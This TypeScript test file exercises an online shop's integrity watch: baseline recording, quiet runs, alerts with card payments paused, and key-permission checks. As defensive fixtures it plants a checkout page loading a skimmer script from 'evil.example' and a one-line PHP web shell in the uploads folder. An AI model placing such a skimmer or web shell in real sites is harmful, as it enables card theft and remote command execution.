// The shop's own integrity watch end to end, on a fixture installation: a trust-on-first-use
// baseline at start-up, silence over ten untouched runs (valid uploads included), then a
// tampered checkout file alerted once (folded while open) with card payments paused, and a web
// shell dropped into DATA_DIR/media alerted as such. Time moves on the injected clock.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATABASES } from '../../test/support/databases.ts';
import { startTestShop, type TestShop } from '../../test/support/test-shop.ts';
import { enrolledAccount } from '../../test/support/admin-test-client.ts';
import { createFixtureInstallation, PNG_1X1, type FixtureInstallation } from '../../test/support/integrity-installation.ts';
import { acknowledgeAlert, listOpenAlerts } from '../alerts/raise-alert.ts';
import { isCardPaymentPaused } from '../shop-pause/shop-pause.ts';
import { latestWatchResult, watchResultsBetween } from '../watch-results/watch-results.ts';
import { readManifest, readIntegrityKey, integrityPaths } from './manifest-store.ts';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { resumeShop } from '../shop-pause/shop-pause.ts';
import path from 'node:path';

const INTERVAL_MS = 300_000;

for (const database of DATABASES) {
  describe(`the integrity job on ${database.name}`, () => {
    let shop: TestShop;
    let fx: FixtureInstallation;
    const start = new Date('2026-12-01T03:00:10Z');
    let now = start;
    beforeAll(async () => {
      fx = createFixtureInstallation();
      shop = await startTestShop(database, { clock: () => now, integrity: true, env: { INTEGRITY_ROOT: fx.root, INTEGRITY_KEY_FILE: fx.keyFile, INTEGRITY_CHECK_INTERVAL_SECONDS: '300' } });
      await shop.jobs.settled();
      await enrolledAccount(shop, 'owner@example.jp', 'owner'); // alerts are mailed to every owner
    });
    afterAll(async () => {
      await shop?.dispose();
      fx?.dispose();
    });

    /** A file in the shop's own DATA_DIR/media (where uploads go), not the fixture's. */
    const writeShopMedia = (relative: string, content: string | Buffer) => {
      const file = path.join(shop.dataDir, 'media', relative);
      mkdirSync(path.dirname(file), { recursive: true });
      writeFileSync(file, content);
    };

    const outboxMails = () => {
      const dir = path.join(shop.dataDir, 'outbox');
      return existsSync(dir) ? readdirSync(dir).map((f) => readFileSync(path.join(dir, f), 'utf8')) : [];
    };

    const runNext = async () => {
      now = new Date((Math.floor(now.getTime() / INTERVAL_MS) + 1) * INTERVAL_MS + 1);
      await shop.jobs.runDue();
      await shop.jobs.settled();
    };

    it('records a trust-on-first-use baseline at start-up, flagged as such', async () => {
      const paths = integrityPaths(shop.config);
      const read = readManifest(paths, readIntegrityKey(paths)!);
      expect(read.ok && read.manifest.trust).toBe('trust-on-first-use');
      expect(read.ok && Object.keys(read.manifest.files)).toContain('src/checkout/checkout-page.tsx');
      // The demo catalog's images were seeded before the first check: part of the baseline.
      expect(read.ok && Object.keys(read.manifest.media).some((m) => m.startsWith('media/demo/'))).toBe(true);
      expect(await latestWatchResult(shop.db.db, 'integrity')).toMatchObject({ outcome: 'clean', details: { outcome: 'baseline-recorded', trust: 'trust-on-first-use' } });
    });

    it('stays silent over ten untouched runs, a valid image upload included', async () => {
      const from = new Date(now.getTime() + 1); // after the start-up baseline
      for (let i = 0; i < 10; i++) {
        if (i === 4) writeShopMedia('uploads/4f2a9c.png', PNG_1X1);
        await runNext();
      }
      const results = await watchResultsBetween(shop.db.db, 'integrity', from, new Date(now.getTime() + 1));
      expect(results.map((r) => r.outcome)).toEqual(Array(10).fill('clean'));
      expect(await listOpenAlerts(shop.db.db)).toEqual([]);
      expect(await isCardPaymentPaused(shop.db.db)).toBe(false);
    });

    it('alerts on a tampered checkout file at the next run, pauses card payments, and does not re-alert the same change', async () => {
      fx.write('src/checkout/checkout-page.tsx', 'export const CheckoutPage = () => "<script src=//evil.example/skim.js>";\n');
      await runNext();
      expect(await isCardPaymentPaused(shop.db.db)).toBe(true);
      const [alert, ...more] = await listOpenAlerts(shop.db.db);
      expect(more).toEqual([]);
      expect(alert).toMatchObject({ kind: 'integrity.changed', severity: 'critical', occurrences: 1 });
      expect(alert!.summary).toContain('changed: src/checkout/checkout-page.tsx');
      expect(await latestWatchResult(shop.db.db, 'integrity')).toMatchObject({ outcome: 'findings', details: { findingCount: 1, pausesCheckout: true } });

      await runNext();
      await runNext();
      const open = await listOpenAlerts(shop.db.db);
      expect(open).toHaveLength(1);
      expect(open[0]!.occurrences).toBe(3);
      // One e-mail to the owner for the three runs that saw the same change.
      const mails = outboxMails().filter((m) => m.includes('owner@example.jp') && m.includes('checkout-page.tsx'));
      expect(mails).toHaveLength(1);
    });

    it('alerts a web shell dropped into DATA_DIR/media as a possible web shell', async () => {
      const [changed] = await listOpenAlerts(shop.db.db);
      await acknowledgeAlert(shop.context, changed!.id, { id: 'admin:test' }, 'seen');
      writeShopMedia('uploads/cmd.jpg', '<?php system($_GET["c"]);');
      await runNext();
      const open = await listOpenAlerts(shop.db.db);
      expect(open).toHaveLength(1);
      expect(open[0]).toMatchObject({ kind: 'integrity.web_shell', severity: 'critical' });
      expect(open[0]!.summary).toContain('possible web shell');
      expect(JSON.parse(open[0]!.evidence as unknown as string).findings).toContain('possible web shell: media/uploads/cmd.jpg (not an image of an allowed type)');
    });

    it('refuses to start when the HMAC key is readable by other users', async () => {
      chmodSync(fx.keyFile, 0o644);
      try {
        await expect(startTestShop(database, { clock: () => now, integrity: true, env: { INTEGRITY_ROOT: fx.root, INTEGRITY_KEY_FILE: fx.keyFile } }))
          .rejects.toThrow(/integrity\.key is readable or writable by other users \(mode 644\): run `chmod 600/);
      } finally {
        chmodSync(fx.keyFile, 0o600);
      }
    });

    it('treats a deleted key and manifest as tampering (critical alert, card payments paused), not as a first start', async () => {
      for (const open of await listOpenAlerts(shop.db.db)) await acknowledgeAlert(shop.context, open.id, { id: 'admin:test' }, 'seen');
      await resumeShop(shop.context, 'card_payments', { id: 'admin:test' }, 'checked');
      expect(await isCardPaymentPaused(shop.db.db)).toBe(false);
      const paths = integrityPaths(shop.config);
      rmSync(paths.manifestFile);
      rmSync(paths.keyFile);
      await runNext();
      expect(existsSync(paths.manifestFile) || existsSync(paths.keyFile)).toBe(false); // no fresh baseline on trust
      const open = await listOpenAlerts(shop.db.db);
      expect(open).toHaveLength(1);
      expect(open[0]).toMatchObject({ kind: 'integrity.manifest_tampered', severity: 'critical' });
      expect(await isCardPaymentPaused(shop.db.db)).toBe(true);
      expect(await latestWatchResult(shop.db.db, 'integrity')).toMatchObject({ outcome: 'findings', details: { outcome: 'tampered', problem: 'BASELINE_GONE' } });
    });
  });
}
